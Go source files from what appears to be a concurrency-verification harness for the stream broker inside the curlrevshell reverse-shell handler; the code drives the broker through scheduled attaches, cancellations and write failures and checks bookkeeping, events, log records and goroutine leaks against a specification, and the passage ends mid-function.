	if h.Dir == "in" {
		if !h.IO && c.rng.Intn(2) == 0 {
			h.Cancel()
			return
		}
		h.W.mu.Lock()
		h.W.FailWrite = 1
		h.W.mu.Unlock()
		c.w.Ich <- "end-of-input-half"
		return
	}
	k := c.rng.Intn(4)
	if h.IO && k == 0 {
		k = 1
	}
	switch k {
	case 0:
		h.Cancel()
	case 1:
		h.R.Push(RRes{Err: io.EOF})
	case 2:
		h.R.Push(RRes{Err: errors.New("transport error")})
	case 3:
		h.R.Push(RRes{Data: []byte(fmt.Sprintf("<m%d>", h.ID)), Err: io.ErrUnexpectedEOF})
	}
}

func (c *ctlRun) compare(st CtlStep) {
	w := c.w
	to := st.To
	got := w.Drain()
	_ = got
	snap := w.B.VerifSnapshot()
	if snap.In != (to.Cin != 0) || snap.Out != (to.Cout != 0) {
		c.div("C04", "book-keeping", "after %s: broker holds in=%v out=%v, specification in=%d out=%d", st.Act.N, snap.In, snap.Out, to.Cin, to.Cout)
	}
	wantKey := to.Key
	switch {
	case wantKey == "":
		if snap.Key != "" {
			c.div("C04", "book-keeping", "after %s: broker key %q, specification none", st.Act.N, snap.Key)
		}
	case isBidirSpec(wantKey):
		if !strings.HasPrefix(snap.Key, "BIDIR") {
			c.div("C01", "book-keeping", "after %s: broker key %q, specification a /io key", st.Act.N, snap.Key)
		}
	default:
		if snap.Key != c.keys[wantKey] {
			c.div("C01", "book-keeping", "after %s: broker key %q, specification %q", st.Act.N, snap.Key, c.keys[wantKey])
		}
	}
	if snap.NoMore != to.Nomore {
		c.div("C04", "shutdown", "after %s: noMore=%v, specification %v", st.Act.N, snap.NoMore, to.Nomore)
	}
	// notices
	w.mu.Lock()
	ready, gone := 0, 0
	for _, cl := range w.CLines {
		if cl.Plain {
			continue
		}
		if strings.Contains(cl.Line, iobroker.ShellReadyMessage) {
			ready++
		}
		if strings.Contains(cl.Line, iobroker.ShellDisconnectedMessage) {
			gone++
		}
	}
	w.mu.Unlock()
	if ready != to.Ready {
		c.div("C04", "ready-notice", "after %s: %d ready notices, specification %d", st.Act.N, ready, to.Ready)
	}
	if gone != to.Gone {
		c.div("C04", "gone-notice", "after %s: %d gone notices, specification %d", st.Act.N, gone, to.Gone)
	}
	// what is attached, by the harness's own account
	nin, nout := 0, 0
	var hin, hout *Half
	for _, h := range c.attachedReal() {
		if h.Dir == "in" {
			nin++
			hin = h
		} else {
			nout++
			hout = h
		}
	}
	if nin > 1 || nout > 1 {
		c.div("C01", "one-shell", "%d input and %d output streams attached at once", nin, nout)
	}
	if hin != nil && hout != nil {
		if hin.IO != hout.IO || (!hin.IO && hin.Key != hout.Key) {
			c.div("C01", "same-id", "attached input (attempt %d) and output (attempt %d) were opened with different IDs", hin.ID, hout.ID)
		}
		if hin.IO && hout.IO && hin.Req != hout.Req {
			c.div("C06", "cross-pairing", "attached halves belong to different /io requests (%d and %d)", hin.Req, hout.Req)
		}
	}
	// shutdown waits
	specAttached := false
	for _, p := range to.Pc {
		if p == "proxy" || p == "ended" {
			specAttached = true
		}
	}
	if w.DoReturned() && specAttached && len(c.attachedReal()) > 0 {
		c.div("C04", "shutdown-waits", "Broker.Do returned while the specification still has attached streams")
	}
	// events (not dispatched any more once Do's context is cancelled)
	if !c.shut {
		want := to.Ready + to.Gone
		if !w.WaitEvents(want, Wait) {
			c.div("C04", "events", "after %s: %d events delivered, specification %d", st.Act.N, len(w.Events), want)
		} else {
			nc, nd := 0, 0
			for _, e := range w.Events {
				switch e.Type {
				case iobroker.EventTypeConnected:
					nc++
				case iobroker.EventTypeDisconnected:
					nd++
				}
			}
			if nc != to.Ready || nd != to.Gone {
				c.div("C04", "events", "after %s: %d connected / %d disconnected events, specification %d / %d", st.Act.N, nc, nd, to.Ready, to.Gone)
			}
		}
	}
}

// final runs the end-of-walk probes: operator input reaches the attached
// input stream only; output of refused streams was never read or shown.
func (c *ctlRun) final(steps []CtlStep) {
	w := c.w
	c.step = len(steps)
	var hin *Half
	for _, h := range c.attachedReal() {
		if h.Dir == "in" {
			hin = h
		}
	}
	last := steps[len(steps)-1].To
	specIn := last.Cin != 0 && last.Pc[last.Cin-1] == "proxy"
	for _, x := range last.Cancelled {
		if x == last.Cin {
			specIn = false // already told to stop by its peer's release
		}
	}
	if hin != nil && specIn {
		n0 := hin.W.NOps()
		w.Ich <- "probe"
		if !hin.W.WaitOps(n0+1, Wait) {
			c.div("C02", "delivery", "a line entered while input attempt %d is attached never reached its writer", hin.ID)
		}
	}
	// give an attached output stream the chance to show its marker
	time.Sleep(50 * time.Microsecond)
	w.Drain()
	c.w.mu.Lock()
	hs := make([]*Half, 0, len(w.Halves))
	for _, h := range w.Halves {
		hs = append(hs, h)
	}
	lines := append([]opshell.CLine(nil), w.CLines...)
	c.w.mu.Unlock()
	for _, h := range hs {
		if h.Accepted {
			c.res.Attached++
			continue
		}
		if !h.Done {
			continue // never admitted in this walk
		}
		if h.Dir == "in" && h.W.NOps() != 0 {
			c.div("C01", "refused-no-io", "refused input attempt %d was sent %d operations", h.ID, h.W.NOps())
		}
		if h.Dir == "out" {
			if calls, _, _ := h.R.Stats(); calls != 0 {
				c.div("C01", "refused-no-io", "refused output attempt %d had its stream read (%d Read calls)", h.ID, calls)
			}
		}
	}
	// C11: connect / disconnect / refusal records, per attempt
	recs := w.Log.Records()
	reasonMsg := map[string]string{"missing": iobroker.LMKeyMissing, "disconnecting": iobroker.LMDisconnecting,
		"dup": iobroker.LMAlreadyConnected, "badkey": iobroker.LMIncorrectKey}
	dirWord := map[string]string{"in": string(iobroker.LVInput), "out": string(iobroker.LVOutput)}
	for _, st := range steps {
		if st.Act.N != "Admit" {
			continue
		}
		h := c.half(st.Act.A)
		if h == nil {
			continue
		}
		var conn, disc, errs int
		var errMsgs []string
		for _, r := range recs {
			if r.Attrs["vtag"] != h.Tag {
				continue
			}
			d, hasDir := r.Attrs[iobroker.LKDirection]
			if hasDir && d != dirWord[h.Dir] {
				continue
			}
			if !hasDir && h.IO {
				continue
			}
			switch r.Msg {
			case iobroker.LMNewConnection:
				conn++
			case iobroker.LMDisconnected:
				disc++
			case iobroker.LMShellIO:
			default:
				if r.Level >= 8 { // slog.LevelError
					errs++
					errMsgs = append(errMsgs, r.Msg)
				}
			}
		}
		switch st.Act.O {
		case "accepted":
			wantDisc := 0
			if pc := last.Pc[h.ID-1]; pc == "ended" || pc == "done" {
				wantDisc = 1 // the record is written when the proxy returns, before the release
			}
			either := false
			for _, x := range last.Cancelled {
				if x == h.ID && wantDisc == 0 {
					either = true // told to stop by its peer; its proxy may already have returned
				}
			}
			if conn != 1 || (disc != wantDisc && !(either && disc == 1)) {
				c.div("C11", "connect-records", "attempt %d (accepted, released=%v) has %d connect and %d disconnect records", h.ID, h.Done, conn, disc)
			}
		case "refused":
			ok := errs == 1
			if ok {
				ok = false
				for _, rs := range st.Act.Rs {
					if reasonMsg[rs] == errMsgs[0] {
						ok = true
					}
				}
			}
			if !ok || conn != 0 {
				c.div("C11", "refusal-record", "refused attempt %d has error records %v (allowed reasons %v) and %d connect records", h.ID, errMsgs, st.Act.Rs, conn)
			}
		}
	}
	for _, cl := range lines {
		if !cl.Plain {
			continue
		}
		for _, h := range hs {
			if !h.Accepted && strings.Contains(cl.Line, fmt.Sprintf("<m%d>", h.ID)) {
				c.div("C01", "refused-no-io", "output of refused attempt %d was displayed", h.ID)
			}
		}
	}
}
