package brk

import (
	"context"
	"fmt"
	"math/rand"
	"runtime/pprof"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
)

// InStep is one environment step of a BrokerIn behaviour.
type InStep struct {
	N string `json:"n"`
	K string `json:"k,omitempty"` // Attach: writer kind
	D bool   `json:"d,omitempty"` // W / F: ok
}

// InOpts configures one input-path execution.
type InOpts struct {
	Settle bool // follow the schedule step by step: writer calls wait for their W / F step
	Prompt bool // free-running writer; each line is entered only after the previous one was delivered
	Seed   int64
	IO     bool // attach through ConnectInOut
}

// InResult is what an execution produced.
type InResult struct {
	Trace   []TraceEv
	Lines   []string // entered lines by number (index 0 = line 1)
	Leaked  []string
	Infra   error
	Stalled bool
}

// lineData returns the content of operator line v.
func lineData(rng *rand.Rand, v int) string {
	switch rng.Intn(8) {
	case 0:
		return ""
	case 1:
		return "x"
	case 2:
		return strings.Repeat(fmt.Sprintf("line %d ", v), 10000) // ~70 KiB
	case 3:
		return fmt.Sprintf("multi\nline\ninsert %d\n\nend", v)
	case 4:
		b := make([]byte, 1+rng.Intn(300))
		rng.Read(b)
		return fmt.Sprintf("%d:", v) + string(b)
	case 5:
		return fmt.Sprintf("echo '%d' \"q\" \\ %%s %%d \x00\xff\xfe", v)
	default:
		return fmt.Sprintf("echo line-%d", v)
	}
}

// RunIn drives the input path through the environment schedule.
func RunIn(sched []InStep, o InOpts) *InResult {
	res := &InResult{}
	rng := rand.New(rand.NewSource(o.Seed))
	w, err := NewWorld(256, false)
	if err != nil {
		res.Infra = err
		return res
	}
	id := fmt.Sprint(worldCounter.Add(1))
	rec := &recorder{}
	// the terminal keeps taking lines throughout
	stopTaker := make(chan struct{})
	go func() {
		for {
			select {
			case <-w.Och:
			case <-stopTaker:
				return
			}
		}
	}()
	var (
		mu       sync.Mutex
		lines    []string
		nwritten int // lines fully written so far (over all shells)
		lastOK   int // number of the line written successfully last
		pend     = map[int][]byte{}
	)
	lineNo := func(data string, expect int) int {
		if expect >= 1 && expect <= len(lines) && lines[expect-1]+"\n" == data {
			return expect
		}
		for i, l := range lines {
			if l+"\n" == data {
				return i + 1
			}
		}
		return -1
	}
	// prefixNo: the line a partial write belongs to
	prefixNo := func(data string, expect int) (int, bool) {
		if expect >= 1 && expect <= len(lines) {
			full := lines[expect-1] + "\n"
			if strings.HasPrefix(full, data) {
				return expect, full == data
			}
		}
		for i, l := range lines {
			if strings.HasPrefix(l+"\n", data) {
				return i + 1, l+"\n" == data
			}
		}
		return -1, true
	}
	var (
		cur       *Half
		curS      int
		released  chan struct{}
		clean     bool // no cancel / failure / close so far in the current shell
		ichClosed bool
	)
	ntaken := 0 // lines that were the subject of a Write event (ok or not)
	var prevReturned chan struct{}
	attach := func(kind string) bool {
		if prevReturned != nil {
			select {
			case <-prevReturned: // the whole previous /io request is over
			case <-time.After(Wait):
				res.Infra = fmt.Errorf("previous /io request never returned")
				return false
			}
		}
		curS++
		s := curS
		rec.add(TraceEv{"e": "Attach", "s": s, "k": kind})
		var h, ho *Half
		w.OnNewHalf = func(h *Half) {
			if h.Dir != "in" {
				return
			}
			h.W.SetOnOp(func(k string, data []byte, fail bool) {
				mu.Lock()
				defer mu.Unlock()
				switch k {
				case "write":
					pend[s] = append(pend[s], data...)
					v, complete := prefixNo(string(pend[s]), ntaken+1)
					if !complete && !fail {
						return // wait for the rest of the line
					}
					if v == -1 {
						v = lineNo(string(pend[s]), ntaken+1)
					}
					pend[s] = nil
					ntaken++
					if !fail {
						nwritten++
						lastOK = v
					}
					rec.add(TraceEv{"e": "Write", "s": s, "v": v, "ok": !fail})
				case "flush":
					rec.add(TraceEv{"e": "Flush", "s": s, "ok": !fail})
				}
			})

		}
		pprof.Do(context.Background(), pprof.Labels("vworld", id), func(context.Context) {
			if o.IO {
				h, ho = w.StartIOGated(2*s-1, 2*s, s, kind, o.Settle)
			} else {
				h = w.StartUniGated(s, "in", "k", s, kind, o.Settle)
			}
		})
		acc := make(chan struct{})
		rel := make(chan struct{})
		go func() {
			seen := false
			for p := range h.finished {
				if p == "unlocked" && !seen {
					seen = true
					close(acc)
				}
				if p == "done" {
					if ho != nil {
						ho.R.Close() // one transport: the request body ends with the response
					}
					rec.add(TraceEv{"e": "Released", "s": s})
					if !seen {
						close(acc)
					}
					close(rel)
					return
				}
			}
		}()
		select {
		case <-acc:
		case <-time.After(Wait):
			res.Infra = fmt.Errorf("input stream %d was not attached", s)
			return false
		}
		cur, released, clean = h, rel, true
		if o.IO {
			prevReturned = h.returned
		}
		return true
	}
	w.Log.OnRec = func(r LogRec) {
		if r.Msg == iobroker.LMShellIO && r.Attrs[iobroker.LKDirection] == string(iobroker.LVInput) {
			mu.Lock()
			v := lineNo(r.Attrs[iobroker.LKData], lastOK)
			s := curS
			mu.Unlock()
			rec.add(TraceEv{"e": "Log", "s": s, "v": v})
		}
	}
	sig := func() [3]int {
		n := 0
		if cur != nil {
			n = cur.W.NOps()
		}
		return [3]int{n, len(w.Ich), len(w.Log.Records())}
	}
	settle := func() {
		if !o.Settle && !o.Prompt {
			return
		}
		last := sig()
		stable := time.Now()
		dl := time.Now().Add(4 * time.Millisecond)
		for time.Now().Before(dl) {
			time.Sleep(60 * time.Microsecond)
			s := sig()
			if s != last {
				last, stable = s, time.Now()
			} else if time.Since(stable) > 250*time.Microsecond {
				return
			}
		}
	}
	// The schedule may expect a shell to have ended by a failure that cannot happen in this
	// execution (no line left to fail on): the caller then cancels it, which the
	// specification allows at any time.  Only after that cancellation is the wait generous.
	wait2 := 30 * time.Millisecond
	waitReleased := func() bool {
		if cur == nil {
			return true
		}
		select {
		case <-released:
			cur = nil
			return true
		case <-time.After(3 * time.Millisecond):
		}
		cur.W.Ungate() // a parked writer call would keep the shell alive
		select {
		case <-released:
			cur = nil
			return true
		case <-time.After(wait2):
			return false
		}
	}
	isReleased := func() bool {
		if cur == nil {
			return true
		}
		select {
		case <-released:
			cur = nil
			return true
		default:
			return false
		}
	}
	for _, st := range sched {
		if res.Infra != nil {
			break
		}
		switch st.N {
		case "Enter":
			if ichClosed {
				continue
			}
			// promptness: with a healthy shell attached every earlier line must
			// already have been delivered before the next one is entered
			if o.Prompt && cur != nil && clean && !isReleased() && cur.W.Scripted() == 0 {
				dl := time.Now().Add(Wait)
				for {
					mu.Lock()
					done := nwritten == len(lines)
					mu.Unlock()
					if done || time.Now().After(dl) {
						if !done {
							res.Stalled = true
							rec.add(TraceEv{"e": "Stall", "s": curS})
						}
						break
					}
					time.Sleep(50 * time.Microsecond)
				}
			}
			mu.Lock()
			v := len(lines) + 1
			l := lineData(rng, v)
			lines = append(lines, l)
			rec.add(TraceEv{"e": "Enter", "v": v})
			mu.Unlock()
			w.Ich <- l
		case "CloseIch":
			if !ichClosed {
				ichClosed = true
				clean = false
				rec.add(TraceEv{"e": "CloseIch"})
				close(w.Ich)
			}
		case "Attach":
			if !isReleased() {
				if !waitReleased() {
					// the specification had the previous shell released here; the
					// implementation has not: end it and go on
					rec.add(TraceEv{"e": "CancelStart"})
					cur.Cancel()
					rec.add(TraceEv{"e": "CancelEnd"})
					wait2 = Wait
					ok := waitReleased()
					wait2 = 30 * time.Millisecond
					if !ok {
						res.Infra = fmt.Errorf("input stream %d never released", curS)
						continue
					}
				}
			}
			attach(st.K)
		case "Cancel":
			if cur != nil {
				clean = false
				rec.add(TraceEv{"e": "CancelStart"})
				cur.Cancel()
				rec.add(TraceEv{"e": "CancelEnd"})
			}
		case "W":
			if o.Prompt {
				continue
			}
			if cur != nil && !isReleased() {
				if !st.D {
					clean = false
				}
				if o.Settle {
					cur.W.Give("write", st.D, 5*time.Millisecond)
				} else {
					cur.W.Script("write", st.D)
				}
			}
		case "F":
			if o.Prompt {
				continue
			}
			if cur != nil && !isReleased() && cur.WKind != "plain" {
				ok := st.D || (cur.WKind != "flusherr" && cur.WKind != "both")
				if !ok {
					clean = false
				}
				if o.Settle {
					cur.W.Give("flush", ok, 5*time.Millisecond)
				} else {
					cur.W.Script("flush", ok)
				}
			}
		}
		settle()
	}
	// final: end the attached shell, census
	if cur != nil && !isReleased() {
		cur.W.Ungate()
		settle()
		rec.add(TraceEv{"e": "CancelStart"})
		cur.Cancel()
		rec.add(TraceEv{"e": "CancelEnd"})
		wait2 = Wait
		waitReleased()
	}
	relOK := cur == nil
	var leaked []string
	if relOK {
		leaked = waitNoLabelled(id, Wait)
	} else {
		leaked = labelledGoroutines(id)
	}
	res.Leaked = leaked
	rec.add(TraceEv{"e": "Quiesced", "leaked": len(leaked), "released": relOK})
	mu.Lock()
	res.Lines = lines
	mu.Unlock()
	res.Trace = rec.ev
	close(stopTaker)
	go func() {
		for {
			select {
			case <-w.Och:
			case <-w.DoDone:
				return
			}
		}
	}()
	if err := w.Cleanup(); err != nil && res.Infra == nil && len(leaked) == 0 {
		res.Infra = err
	}
	return res
}
