// Package brk drives a real internal/iobroker.Broker: it owns the writers,
// readers, channels, logger and contexts handed to the broker, imposes
// schedules through the verif hooks (gates) and observes everything the
// broker does at those boundaries.
package brk

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"runtime"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
)

// Wait is the generous bound for "eventually" observations.
var Wait = 5 * time.Second

type attKey struct{}

type attInfo struct {
	w       *World
	in, out *Half
}

// Ev is one hook event.
type Ev struct {
	Seq   uint64
	Point string
	Att   int
	Req   int // the request the attempt belongs to, as the driver knows it
	Dir   string
	Key   string
	St    iobroker.VerifState
}

// Half is one attempt (one direction of one request).
type Half struct {
	ID   int
	Dir  string // "in" / "out"
	Key  string // real key passed ("" for halves of /io, whose key the broker chooses)
	Req  int
	Addr string // what the broker is told the peer's address is
	Tag  string // unique per attempt / request: marks its log records
	IO   bool

	gate     chan struct{}
	hold     chan struct{}
	holdOnce sync.Once
	parked   chan string
	finished chan string
	returned chan struct{}
	Cancel   context.CancelFunc

	W *RecWriter
	R *ScriptReader

	WKind string // "plain" (default), "flusherr", "flusher", "both"

	Accepted bool
	Done     bool
}

// ReleaseHold lets an attempt held behind its admission go on (HoldUnlocked).
func (h *Half) ReleaseHold() { h.holdOnce.Do(func() { close(h.hold) }) }

// Writer returns the writer handed to the broker, of the configured kind.
func (h *Half) Writer() io.Writer {
	switch h.WKind {
	case "flusherr":
		return FlushErrWriter{h.W}
	case "flusher":
		return FlusherWriter{h.W}
	case "both":
		return BothWriter{h.W}
	}
	return PlainWriter{h.W}
}

// World is one broker plus everything around it.
type World struct {
	B      *iobroker.Broker
	Ich    chan string
	Och    chan opshell.CLine
	Gated  bool
	Record bool
	// HoldUnlocked keeps every admitted attempt right behind its first critical section (before
	// its proxy starts) until ReleaseHold: what the broker does next must not depend on how far an
	// admitted stream has got.
	HoldUnlocked bool
	// SameHost makes every attempt come from one address, as streams dialled from one machine do.
	SameHost bool
	// NoDrain leaves the operator channel to the driver's own receiver (Drain takes nothing).
	NoDrain bool

	pendingGated bool
	// OnNewHalf, if set, is called for every new attempt before its Connect* call starts.
	OnNewHalf func(*Half)

	doCancel context.CancelFunc
	DoDone   chan struct{}
	EvCh     chan iobroker.Event

	mu     sync.Mutex
	Halves map[int]*Half
	CLines []opshell.CLine
	Events []iobroker.Event
	Trace  []Ev
	Log    *LogCap
	seq    atomic.Int64
}

var hookOnce sync.Once

func installHook() {
	hookOnce.Do(func() {
		iobroker.VerifHook = func(ctx context.Context, b *iobroker.Broker, point, dir, key string, st iobroker.VerifState) {
			ai, ok := ctx.Value(attKey{}).(*attInfo)
			if !ok || ai.w.B != b {
				return
			}
			h := ai.in
			if dir == "output" {
				h = ai.out
			}
			if h == nil {
				return
			}
			w := ai.w
			if w.Record {
				w.mu.Lock()
				w.Trace = append(w.Trace, Ev{Seq: st.Seq, Point: point, Att: h.ID, Req: h.Req, Dir: h.Dir, Key: key, St: st})
				w.mu.Unlock()
			}
			if !w.Gated {
				switch point {
				case "done", "unlocked":
					select {
					case h.finished <- point:
					default:
					}
				}
				return
			}
			switch point {
			case "admit", "release":
				h.parked <- point
				<-h.gate
			case "done", "unlocked":
				h.finished <- point
				if point == "unlocked" && w.HoldUnlocked {
					<-h.hold // kept right behind its admission until the walk lets it go
				}
			}
		}
	})
}

// NewWorld makes a broker with an operator channel of the given capacity and
// starts Broker.Do.
func NewWorld(ochCap int, gated bool) (*World, error) {
	installHook()
	w := &World{
		Ich:    make(chan string, 1024),
		Och:    make(chan opshell.CLine, ochCap),
		Gated:  gated,
		DoDone: make(chan struct{}),
		EvCh:   make(chan iobroker.Event, iobroker.EVChanLen),
		Halves: map[int]*Half{},
	}
	w.Log = &LogCap{w: w}
	b, err := iobroker.New(w.Ich, w.Och)
	if err != nil {
		return nil, err
	}
	w.B = b
	b.AddEventListener(w.EvCh)
	ctx, cancel := context.WithCancel(context.Background())
	w.doCancel = cancel
	go func() {
		defer close(w.DoDone)
		b.Do(ctx)
	}()
	return w, nil
}

// NextSeq returns the next harness-wide sequence number.
func (w *World) NextSeq() int64 { return w.seq.Add(1) }

func (w *World) newHalf(id int, dir, key string, req int, addr string, isIO bool) *Half {
	h := &Half{ID: id, Dir: dir, Key: key, Req: req, Addr: addr, IO: isIO,
		gate: make(chan struct{}, 1), parked: make(chan string, 1), finished: make(chan string, 2), hold: make(chan struct{}),
		returned: make(chan struct{})}
	h.W = &RecWriter{w: w, att: id}
	if w.pendingGated {
		h.W.SetGated()
	}
	h.R = NewScriptReader(w, id)
	w.mu.Lock()
	w.Halves[id] = h
	w.mu.Unlock()
	if w.OnNewHalf != nil {
		w.OnNewHalf(h)
	}
	return h
}

func (w *World) addrFor(tag string) string {
	if w.SameHost {
		return "192.0.2.9"
	}
	return tag
}

// Logger returns a logger for an attempt/request.
func (w *World) Logger(tag string) *slog.Logger {
	return slog.New(w.Log).With("vtag", tag)
}

// StartUni calls ConnectIn or ConnectOut in a new goroutine.
func (w *World) StartUni(id int, dir, key string, req int, wkind string) *Half {
	tag := fmt.Sprintf("att%d", id)
	addr := w.addrFor(tag)
	h := w.newHalf(id, dir, key, req, addr, false)
	h.Tag = tag
	h.WKind = wkind
	ai := &attInfo{w: w}
	if dir == "in" {
		ai.in = h
	} else {
		ai.out = h
	}
	ctx, cancel := context.WithCancel(context.WithValue(context.Background(), attKey{}, ai))
	h.Cancel = cancel
	sl := w.Logger(tag)
	go func() {
		defer close(h.returned)
		if dir == "in" {
			w.B.ConnectIn(ctx, sl, addr, h.Writer(), key)
		} else {
			w.B.ConnectOut(ctx, sl, addr, h.R, key)
		}
	}()
	return h
}

// StartIO calls ConnectInOut in a new goroutine.
func (w *World) StartIO(idIn, idOut, req int, wkind string) (*Half, *Half) {
	tag := fmt.Sprintf("req%d", req)
	addr := w.addrFor(tag)
	hi := w.newHalf(idIn, "in", "", req, addr, true)
	hi.WKind = wkind
	ho := w.newHalf(idOut, "out", "", req, addr, true)
	hi.Tag, ho.Tag = tag, tag
	ai := &attInfo{w: w, in: hi, out: ho}
	ctx, cancel := context.WithCancel(context.WithValue(context.Background(), attKey{}, ai))
	hi.Cancel = cancel
	ho.Cancel = cancel
	sl := w.Logger(tag)
	ret := make(chan struct{})
	hi.returned = ret
	ho.returned = ret
	go func() {
		defer close(ret)
		w.B.ConnectInOut(ctx, sl, addr, hi.Writer(), ho.R)
	}()
	return hi, ho
}

// StartUniGated is StartUni with an optionally gated writer.
func (w *World) StartUniGated(id int, dir, key string, req int, wkind string, gated bool) *Half {
	w.pendingGated = gated
	defer func() { w.pendingGated = false }()
	return w.StartUni(id, dir, key, req, wkind)
}

// StartIOGated is StartIO with an optionally gated writer.
func (w *World) StartIOGated(idIn, idOut, req int, wkind string, gated bool) (*Half, *Half) {
	w.pendingGated = gated
	defer func() { w.pendingGated = false }()
	return w.StartIO(idIn, idOut, req, wkind)
}

// WaitParked waits for h to park at a gate.
func (h *Half) WaitParked(want string, d time.Duration) error {
	select {
	case p := <-h.parked:
		if p != want {
			return fmt.Errorf("attempt %d parked at %q, expected %q", h.ID, p, want)
		}
		return nil
	case <-time.After(d):
		return fmt.Errorf("attempt %d did not reach %q within %v", h.ID, want, d)
	}
}

// Open opens h's gate.
func (h *Half) Open() {
	select {
	case h.gate <- struct{}{}:
	default:
	}
}

// WaitFinished waits for the next "unlocked" or "done".
func (h *Half) WaitFinished(d time.Duration) (string, error) {
	select {
	case p := <-h.finished:
		return p, nil
	case <-time.After(d):
		return "", fmt.Errorf("attempt %d finished neither admission nor release within %v", h.ID, d)
	}
}

// Drain moves everything currently on the operator channel into CLines and
// returns the newly taken lines.
func (w *World) Drain() []opshell.CLine {
	var got []opshell.CLine
	if w.NoDrain {
		return nil
	}
	for {
		select {
		case cl := <-w.Och:
			got = append(got, cl)
		default:
			w.mu.Lock()
			w.CLines = append(w.CLines, got...)
			w.mu.Unlock()
			return got
		}
	}
}

// TakeOne takes one line from the operator channel (waiting up to d).
func (w *World) TakeOne(d time.Duration) (opshell.CLine, bool) {
	select {
	case cl := <-w.Och:
		w.mu.Lock()
		w.CLines = append(w.CLines, cl)
		w.mu.Unlock()
		return cl, true
	case <-time.After(d):
		return opshell.CLine{}, false
	}
}

// DrainEvents collects delivered events.
func (w *World) DrainEvents() {
	for {
		select {
		case e := <-w.EvCh:
			w.Events = append(w.Events, e)
		default:
			return
		}
	}
}

// WaitEvents waits until n events were delivered.
func (w *World) WaitEvents(n int, d time.Duration) bool {
	dl := time.Now().Add(d)
	for {
		w.DrainEvents()
		if len(w.Events) >= n {
			return true
		}
		if time.Now().After(dl) {
			return false
		}
		select {
		case e := <-w.EvCh:
			w.Events = append(w.Events, e)
		case <-time.After(time.Until(dl)):
		}
	}
}

// Shutdown cancels Broker.Do's context and waits for noMore.
func (w *World) Shutdown(d time.Duration) bool {
	w.doCancel()
	dl := time.Now().Add(d)
	for !w.B.VerifSnapshot().NoMore {
		if time.Now().After(dl) {
			return false
		}
		time.Sleep(50 * time.Microsecond)
	}
	return true
}

// DoReturned reports whether Broker.Do has returned.
func (w *World) DoReturned() bool {
	select {
	case <-w.DoDone:
		return true
	default:
		return false
	}
}

// Cleanup releases everything: cancels contexts, closes readers, opens gates
// until every Connect* call has returned, then waits for Do.
func (w *World) Cleanup() error {
	w.doCancel()
	w.mu.Lock()
	hs := make([]*Half, 0, len(w.Halves))
	for _, h := range w.Halves {
		hs = append(hs, h)
	}
	w.mu.Unlock()
	for _, h := range hs {
		h.ReleaseHold()
		h.Cancel()
		h.R.Close()
	}
	dl := time.Now().Add(Wait * 2)
	for _, h := range hs {
		for {
			done := false
			select {
			case <-h.returned:
				done = true
			default:
			}
			if done {
				break
			}
			for _, g := range hs {
				g.Open()
				select {
				case <-g.parked:
				default:
				}
				select {
				case <-g.finished:
				default:
				}
			}
			w.Drain()
			if time.Now().After(dl) {
				return fmt.Errorf("attempt %d never returned", h.ID)
			}
			select {
			case <-h.returned:
			case <-time.After(200 * time.Microsecond):
			}
		}
	}
	for {
		w.Drain()
		select {
		case <-w.DoDone:
			w.B.RemoveEventListener(w.EvCh)
			return nil
		case <-time.After(200 * time.Microsecond):
			if time.Now().After(dl) {
				return errors.New("Broker.Do never returned")
			}
		}
	}
}

// BrokerGoroutines returns the stacks of goroutines currently running
// iobroker code (used for the leak census).
func BrokerGoroutines() []string {
	buf := make([]byte, 1<<20)
	for {
		n := runtime.Stack(buf, true)
		if n < len(buf) {
			buf = buf[:n]
			break
		}
		buf = make([]byte, 2*len(buf))
	}
	var out []string
	for _, g := range bytes.Split(buf, []byte("\n\n")) {
		s := string(g)
		if strings.Contains(s, "internal/iobroker.") && !strings.Contains(s, "BrokerGoroutines") {
			out = append(out, s)
		}
	}
	return out
}

// WaitNoBrokerGoroutines polls until no goroutine runs iobroker code.
func WaitNoBrokerGoroutines(d time.Duration) []string {
	dl := time.Now().Add(d)
	for {
		g := BrokerGoroutines()
		if len(g) == 0 || time.Now().After(dl) {
			return g
		}
		time.Sleep(2 * time.Millisecond)
	}
}

// ---------------------------------------------------------------------------

// WOp is one operation seen by a RecWriter.
type WOp struct {
	Seq  int64
	Kind string // "write" / "flush"
	Data string
	Fail bool
}

// RecWriter records writes and flushes and can be told to fail.
type RecWriter struct {
	w   *World
	att int

	mu        sync.Mutex
	Ops       []WOp
	FailWrite int // fail the n-th write from now (1 = next), 0 = never
	FailFlush int
	Mode      string // "flusherr" (default), "flusher", "plain"
	notify    chan struct{}
	// scripted results (true = ok), consumed one per call; default ok
	WriteRes []bool
	FlushRes []bool
	// OnOp, if set, is called for every operation with the lock held
	OnOp func(kind string, data []byte, fail bool)
	// gating: when gated, every call parks until Give hands it a result
	gated  bool
	parked string    // kind of the parked call ("" = none)
	give   chan bool // result for the parked call
}

// SetGated switches gating on; every Write / flush call then waits for Give.
func (rw *RecWriter) SetGated() {
	rw.mu.Lock()
	rw.gated = true
	rw.give = make(chan bool)
	rw.mu.Unlock()
}

// Ungate lets the parked call and all future calls proceed (result ok).
func (rw *RecWriter) Ungate() {
	rw.mu.Lock()
	was := rw.gated
	rw.gated = false
	g := rw.give
	rw.mu.Unlock()
	if was && g != nil {
		close(g)
	}
}

// Give hands a result to a call of the given kind, waiting up to d for one to
// be parked.  It reports whether the result was handed over.
func (rw *RecWriter) Give(kind string, ok bool, d time.Duration) bool {
	dl := time.Now().Add(d)
	for {
		rw.mu.Lock()
		p, g, gated := rw.parked, rw.give, rw.gated
		rw.mu.Unlock()
		if !gated {
			return false
		}
		if p == kind {
			select {
			case g <- ok:
				return true
			case <-time.After(time.Until(dl)):
				return false
			}
		}
		if time.Now().After(dl) {
			return false
		}
		time.Sleep(30 * time.Microsecond)
	}
}

// park waits for a result if the writer is gated; the bool is the result (ok).
func (rw *RecWriter) park(kind string) bool {
	rw.mu.Lock()
	if !rw.gated {
		rw.mu.Unlock()
		return true
	}
	rw.parked = kind
	g := rw.give
	rw.mu.Unlock()
	ok, open := <-g
	rw.mu.Lock()
	rw.parked = ""
	rw.mu.Unlock()
	if !open {
		return true
	}
	return ok
}

// Script appends a scripted result for the next unscripted write or flush.
func (rw *RecWriter) Script(kind string, ok bool) {
	rw.mu.Lock()
	defer rw.mu.Unlock()
	if kind == "write" {
		rw.WriteRes = append(rw.WriteRes, ok)
	} else {
